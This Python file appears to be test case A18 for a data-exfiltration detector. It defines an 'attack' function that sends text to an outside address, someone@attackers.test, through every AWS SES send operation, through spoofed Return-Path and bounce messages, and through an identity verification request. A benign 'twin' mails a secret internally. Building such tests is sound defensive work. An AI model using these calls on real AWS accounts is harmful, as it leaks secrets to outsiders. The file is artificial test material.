"""A18: mail to an outsider: each way in which SES sends, and whose name it is sent in."""

import json

ME = "me@kept.test"


def attack(hands):
    text = hands.plain()
    mails(hands, "someone@attackers.test", text)
    theirs = f"arn:aws:ses:{hands.region}:999999999999:identity/attackers.test"
    # To whom it may go, but as the attacker: his identity's notifications tell him of it, subject and all.
    sent = {
        "Source": "me@attackers.test",
        "SourceArn": theirs,
        "Destination": {"ToAddresses": ["ops@kept.test"]},
    }
    hands.call("ses", "SendEmail", Message=message(text), **sent)
    bounced = f"From: {ME}\r\nTo: ops@kept.test\r\nReturn-Path: me@attackers.test\r\n\r\n{text}".encode()
    hands.call("ses", "SendRawEmail", Destinations=["ops@kept.test"], RawMessage={"Data": bounced})
    named = {"BounceSender": ME, "OriginalMessageId": f"attackers-{text}"}
    failed = [{"Recipient": "someone@attackers.test", "BounceType": "DoesNotExist"}]
    hands.call("ses", "SendBounce", BouncedRecipientInfoList=failed, **named)
    hands.call("ses", "VerifyEmailIdentity", EmailAddress=f"{text}@attackers.test")


def twin(hands):
    mails(hands, "ops@kept.test", hands.secret())


def message(text):
    return {"Subject": {"Data": text}, "Body": {"Text": {"Data": text}}}


def mails(hands, whom, text):
    """One mail by each operation."""
    to, told = {"ToAddresses": [whom]}, json.dumps({"t": text})
    hands.call("ses", "SendEmail", Source=ME, Destination=to, Message=message(text))
    raw = f"From: {ME}\r\nTo: {whom}\r\nSubject: note\r\n\r\n{text}".encode()
    hands.call("ses", "SendRawEmail", RawMessage={"Data": raw})
    hands.call("ses", "SendTemplatedEmail", Source=ME, Destination=to, Template="t", TemplateData=told)
    each = {"Template": "t", "DefaultTemplateData": told}
    hands.call("ses", "SendBulkTemplatedEmail", Source=ME, Destinations=[{"Destination": to}], **each)
    hands.call("sesv2", "SendEmail", FromEmailAddress=ME, Destination=to, Content={"Simple": message(text)})
    content = {"Template": {"TemplateName": "t", "TemplateData": told}}
    entry = {"Destination": to}
    hands.call(
        "sesv2", "SendBulkEmail", FromEmailAddress=ME, BulkEmailEntries=[entry], DefaultContent=content
    )
